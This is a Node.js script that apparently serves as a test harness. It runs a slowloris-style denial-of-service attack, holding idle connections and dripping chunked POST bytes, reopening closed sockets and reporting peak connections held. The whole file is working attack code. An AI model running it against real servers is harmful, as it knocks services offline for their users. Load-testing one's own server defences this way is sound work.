// One anonymous client trying to take a server's connections, from one address, in a process of
// its own (its sockets need descriptors of their own): `idle` connections that send nothing and
// `slow` ones that send a chunked POST's head, then one byte a second. Each one the server
// closes is opened again after a second, as long as the attack runs, so the server is refilled
// for as long as it lets it. Ramps up in steps, so the listen backlog is not what refuses.
//   node attacker.mjs <url> <idle> <slow> <seconds> [localAddress]
// Prints one JSON line when done: the most connections it held at once, how many the server
// closed, and how many were refused before connecting.
import { connect } from 'node:net';

const [url, idleArg, slowArg, secondsArg, localAddress = '127.0.0.1'] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const REOPEN_MS = 1_000;
const STEP = 100;
const STEP_MS = 50;

let stopping = false;
let open = 0;
let peak = 0;
let closedByServer = 0;
let failed = 0;
const sockets = new Set();

function start(kind) {
  if (stopping) return;
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  sockets.add(socket);
  let connected = false;
  let drip;
  socket.on('connect', () => {
    connected = true;
    peak = Math.max(peak, ++open);
    if (kind === 'slow') {
      socket.write(
        `POST /API/1_0/SOAP/ServiceAPI.asmx HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: text/xml; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n`,
      );
      drip = setInterval(() => socket.write('1\r\nx\r\n'), 1_000);
    }
  });
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(drip);
    sockets.delete(socket);
    if (connected) {
      open--;
      closedByServer++;
    } else failed++;
    if (!stopping) setTimeout(() => start(kind), REOPEN_MS);
  });
}

const kinds = [
  ...Array.from({ length: Number(slowArg) }, () => 'slow'),
  ...Array.from({ length: Number(idleArg) }, () => 'idle'),
];
for (let i = 0; i < kinds.length; i += STEP) {
  for (const kind of kinds.slice(i, i + STEP)) start(kind);
  await new Promise((r) => setTimeout(r, STEP_MS));
}
process.stdout.write(`${JSON.stringify({ event: 'ramped', open })}\n`);
setTimeout(
  () => {
    stopping = true;
    const result = { event: 'done', peak, closedByServer, failed, open };
    for (const s of sockets) s.destroy();
    process.stdout.write(`${JSON.stringify(result)}\n`);
    process.exit(0);
  },
  Number(secondsArg) * 1_000,
);
